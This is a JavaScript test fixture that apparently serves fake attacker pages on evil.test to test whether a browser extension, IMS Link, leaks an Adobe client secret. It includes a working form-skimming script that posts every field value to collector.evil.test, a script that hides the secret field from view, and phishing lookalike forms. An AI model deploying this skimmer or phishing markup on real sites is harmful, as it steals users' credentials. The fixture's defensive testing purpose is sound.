// An attacker's site, evil.test (issue 14): pages made to take the client secret from "Fill
// this form". Each copies what a phisher can copy from a real AEM author, not what IMS Link
// happens to look for (tests/fake-cloud/PAGES.md, "Attack pages"):
// - AEM's IMS wizard path: the fake AEM's own wizard markup, served on this host, with a script
//   that sends every field's value to collector.evil.test as it changes;
//   `?attack=hidden-secret` also moves the Client Secret field out of the wizard into a hidden
//   box, where an admin would never see what went into it.
// - /totally/not/aem/form.html: no AEM path, no AEM framework, only fields labelled like the
//   wizard's ("Cloud Configuration", "Authorization Server", API Key, Client Secret, Payload...).
// - /after-fill.html: a page a tab may be navigated to after a fill; its fields carry the
//   markers IMS Link's fill leaves on AEM's fields, and it records whatever is typed into them.
import { readFileSync } from 'node:fs';
import { extname, join, normalize } from 'node:path';
import { handle as aemHandle } from '../aem/handler.mjs';

const AEM = new URL('../aem/', import.meta.url).pathname;
const WIZARD = '/libs/cq/adobeims-configuration/content/configurations/create.html';
const TYPES = { '.js': 'text/javascript', '.css': 'text/css', '.json': 'application/json', '.png': 'image/png' };

/** Sends every field's value to the collector whenever it changes (what a phishing page does). */
const EXFIL = `<script>
(() => {
  const send = (el) => fetch('https://collector.evil.test/grab', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ name: el.name || el.getAttribute('aria-label') || el.id, value: el.value }) });
  document.addEventListener('input', (e) => send(e.target), true);
  document.addEventListener('change', (e) => send(e.target), true);
})();
</script>`;

const HIDE_SECRET = `<script>
addEventListener('DOMContentLoaded', () => {
  // Out of the wizard, into a box nobody sees.
  const field = document.getElementById('ims-clientSecret');
  const box = document.createElement('div');
  box.style.display = 'none';
  box.append(field.closest('.coral-Form-fieldwrapper') ?? field);
  document.body.append(box);
});
</script>`;

export async function handle(req, res, ctx) {
  const path = ctx.url.pathname;
  if (path === '/totally/not/aem/form.html') return html(res, twoLabelsForm());
  if (path === '/after-fill.html') return html(res, afterFillPage());
  if (path === '/target-lookalike.html') return html(res, targetLookalike());
  if (path === WIZARD && req.method === 'GET') {
    const inject = EXFIL + (ctx.url.searchParams.get('attack') === 'hidden-secret' ? HIDE_SECRET : '');
    return aemHandle(req, rewriting(res, (body) => body.replace('</head>', `${inject}</head>`)), { ...ctx, host: 'author.aem.test' });
  }
  if (req.method === 'GET' && path.startsWith('/etc.clientlibs/')) {
    // The AEM page's own scripts and styles, copied next to the page.
    const rel = normalize(path).replace(/^(\.\.[/\\])+/, '');
    const file = join(AEM, rel);
    if (!file.startsWith(AEM) || file.endsWith('.mjs')) return false;
    try {
      const body = readFileSync(file);
      res.writeHead(200, { 'content-type': TYPES[extname(file)] ?? 'application/octet-stream', 'cache-control': 'no-store' });
      res.end(body);
      return true;
    } catch {
      return aemHandle(req, res, { ...ctx, host: 'author.aem.test' });
    }
  }
  return false;
}

function html(res, body) {
  res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' });
  res.end(body);
  return true;
}

/** A response whose text body passes through `edit` before it is sent. */
function rewriting(res, edit) {
  const chunks = [];
  return {
    writeHead: (status, headers) => { res.statusCode = status; for (const [k, v] of Object.entries(headers ?? {})) res.setHeader(k, v); },
    setHeader: (k, v) => res.setHeader(k, v),
    write: (c) => { chunks.push(Buffer.from(c)); return true; },
    end: (c) => {
      if (c) chunks.push(Buffer.from(c));
      const text = edit(Buffer.concat(chunks).toString('utf8'));
      res.removeHeader('content-length');
      res.end(text);
    },
  };
}

function field(label, name, { type = 'text', tag = 'input' } = {}) {
  const id = `f-${name}`;
  const control = tag === 'textarea' ? `<textarea id="${id}" name="${name}"></textarea>` : `<input id="${id}" name="${name}" type="${type}">`;
  return `<p><label for="${id}">${label}</label> ${control}</p>`;
}

function twoLabelsForm() {
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Update your integration</title>${EXFIL}</head>
<body><h1>Update your Adobe integration</h1>
<form>
<p><label for="cloud">Cloud Configuration</label> <select id="cloud" name="cloud"><option value="">Choose</option><option value="Adobe Target">Adobe Target</option></select></p>
${field('Authorization Server', 'server')}
${field('Title', 'title')}
${field('API Key', 'apiKey')}
${field('Client ID', 'clientId')}
${field('Client Secret', 'clientSecret')}
${field('Payload', 'payload', { tag: 'textarea' })}
${field('Scope', 'scope')}
${field('Org ID', 'orgId')}
<div style="display:none">${field('Client Secret', 'hiddenSecret')}</div>
</form></body></html>`;
}

/**
 * A frame an attacker gets onto the Unified Shell's page (an ad, a partner widget): it shows
 * Target's "Account details" labels with its own client code and org, hoping IMS Link takes
 * them as Target's (I).
 */
function targetLookalike() {
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Adobe Target</title></head><body>
<h1>Implementation</h1><h2>Account details</h2>
<div><span>Client Code</span><span>evilcode</span></div>
<div><span>IMS Organization ID</span><span>EEEEEEEEEEEEEEEEEEEEEEEE@AdobeOrg</span></div>
</body></html>`;
}

function afterFillPage() {
  const inputs = Array.from({ length: 40 }, (_, i) => `<input name="x${i}" data-ims-link-key="f${i}">`).join('\n');
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Something else</title>
<script>window.received = []; addEventListener('input', (e) => { if (e.target.value) window.received.push(e.target.value); }, true);</script>
</head><body><h1>Another page</h1><form>${inputs}</form></body></html>`;
}
